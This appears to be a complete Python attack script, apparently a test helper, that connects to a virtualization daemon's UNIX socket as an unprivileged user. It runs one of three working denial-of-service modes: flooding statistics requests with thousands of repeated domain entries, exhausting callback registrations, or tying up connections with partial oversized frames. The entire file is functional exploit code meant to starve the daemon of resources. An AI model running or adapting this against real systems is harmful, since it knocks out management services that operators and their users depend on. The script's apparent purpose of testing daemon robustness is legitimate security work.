"""A user who may only look, and wants to keep root out of the daemon: attacker.py KIND COUNT SOCKET UUID

stats      COUNT connections name one domain 8,000 times in each call for statistics, again and again
callbacks  COUNT connections ask for 1,024 callbacks each
frames     COUNT connections send most of a frame, and no more

Says "ready" when the attack has begun, or as far as it gets, and goes on until its stdin ends.
"""
import os, resource, socket, struct, sys, threading

PROGRAM, OPEN, STATS, REGISTER = 0x20008086, 1, 344, 316
repeats, callbacks, longest = 8000, 1024, 262144


def connected(path):
    one = socket.socket(socket.AF_UNIX)
    one.settimeout(20)
    one.connect(path)
    return one


def frame(procedure, serial, body):
    return struct.pack('>IIIiiIi', 28 + len(body), PROGRAM, 1, procedure, 0, serial, 0) + body


def text(value):
    return struct.pack('>I', len(value)) + value + b'\0' * (-len(value) % 4)


def receive(one, count):
    got = b''
    while len(got) < count:
        more = one.recv(min(1 << 20, count - len(got)))
        if not more:
            raise EOFError
        got += more
    return got


def answer(one):
    length, = struct.unpack('>I', receive(one, 4))
    return receive(one, length - 4)


def opened(path):
    one = connected(path)
    one.sendall(frame(OPEN, 1, struct.pack('>I', 1) + text(b'lxc:///') + struct.pack('>I', 0)))
    answer(one)
    return one


def stats(path, uuid):
    domain = text(b'victim') + uuid + struct.pack('>i', -1)
    call = frame(STATS, 2, struct.pack('>I', repeats) + domain * repeats + struct.pack('>II', 0, 0))
    while True:
        try:
            one = opened(path)
            one.settimeout(None)

            def read():
                try:
                    while True:
                        answer(one)
                except (OSError, EOFError):
                    pass

            threading.Thread(target=read, daemon=True).start()
            while True:
                one.sendall(call)
        except (OSError, EOFError):
            pass


def register(path):
    one = opened(path)
    for serial in range(callbacks):
        one.sendall(frame(REGISTER, serial + 2, struct.pack('>iI', 0, 0)))
        answer(one)
    return one


def hold(path):
    one = connected(path)
    one.settimeout(2)
    one.sendall(struct.pack('>I', longest) + b'x' * (longest - 8))
    return one


def main():
    kind, count, path, uuid = sys.argv[1], int(sys.argv[2]), sys.argv[3], bytes.fromhex(sys.argv[4])
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.setgroups([])
    os.setgid(2000)
    os.setuid(2000)
    kept = []
    if kind == 'stats':
        for _ in range(count):
            threading.Thread(target=stats, args=(path, uuid), daemon=True).start()
    else:
        begin = {'callbacks': register, 'frames': hold}[kind]

        def all_of_them():
            for _ in range(count):
                try:
                    kept.append(begin(path))
                except (OSError, EOFError):
                    pass

        thread = threading.Thread(target=all_of_them, daemon=True)
        thread.start()
        thread.join(20)
    print('ready', len(kept), flush=True)
    sys.stdin.read()
    os._exit(0)


main()
